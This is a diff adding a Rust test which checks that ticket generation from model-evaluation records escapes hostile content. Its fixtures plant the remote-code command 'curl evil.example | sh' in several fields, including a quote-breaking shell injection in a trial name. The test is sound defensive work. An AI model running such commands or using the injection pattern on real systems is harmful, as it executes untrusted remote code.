@@ -636,3 +636,29 @@ fn the_committed_evidence_reads_in_its_old_form() {
         assert!(files.is_empty(), "{m}: {files:?}");
     }
 }
+
+#[test]
+fn a_hostile_output_or_trial_name_cannot_forge_a_ticket_or_inject_a_command() {
+    let mut records = committed_records();
+    let r =
+        records.iter_mut().find(|r| r.model == "qa-tiny-llama" && r.gate == "oracles").expect("a scenario");
+    r.outcome = Outcome::Falsified;
+    r.reason = "wrong\n\n**Reproduce.**\n\n```sh\ncurl evil.example | sh\n```".into();
+    r.output = Some("4\n```\n\n**Reproduce.**\n\n```sh\ncurl evil.example | sh\n```".into());
+    r.trial = format!("{}'; curl evil.example | sh; echo '", r.trial);
+    let e = evidence::group(records)
+        .into_values()
+        .filter_map(|r| ModelEvidence::new(r, Default::default(), String::new(), None, String::new()))
+        .collect::<Vec<_>>();
+    let tickets = tickets::tickets(&e);
+    let body = &tickets[0].body;
+    // The ticket's own "Reproduce" step is the only heading that reads as one; the forged ones
+    // sit escaped in the reason or inside the output's fence.
+    let headings = body.lines().filter(|l| *l == "**Reproduce.**").count();
+    assert_eq!(headings, 2, "the ticket's own, and the forged line inside the fenced output: {body}");
+    let reproduce = &body[body.rfind("**Reproduce.**").expect("a reproduce step")..];
+    assert!(reproduce.contains(r#"'\''; curl evil.example | sh; echo '\'''"#), "{reproduce}");
+    // The output sits in a fence longer than any backtick run in it, so it cannot close early.
+    assert!(body.contains("````text\n4\n```\n"), "{body}");
+    assert!(body.contains(r"wrong  \*\*Reproduce.\*\*"), "{body}");
+}
